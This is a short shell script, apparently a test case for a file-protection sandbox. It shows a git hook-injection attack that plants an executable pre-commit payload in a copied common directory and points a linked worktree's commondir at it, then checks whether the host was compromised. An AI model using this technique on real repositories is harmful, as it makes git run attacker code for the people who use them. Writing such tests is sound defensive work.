#!/bin/sh
# files.protect, hazard 6: the record of a linked worktree sent to the command's own hooks and configuration.
# plant: mounts.protect+observer+observer.notes
# fallback: files.protect
prepare() {
	git worktree add -q side
}

act() {
	mkdir -p common/hooks
	cp -R .git/config .git/objects .git/refs .git/HEAD common
	payload >common/hooks/pre-commit && chmod 755 common/hooks/pre-commit
	echo "$WORK/common" >.git/worktrees/side/commondir
}

happened() {
	WORK=$WORK/side
	host_is_owned_by_git
}

. "$VERIFY/attempt.sh"
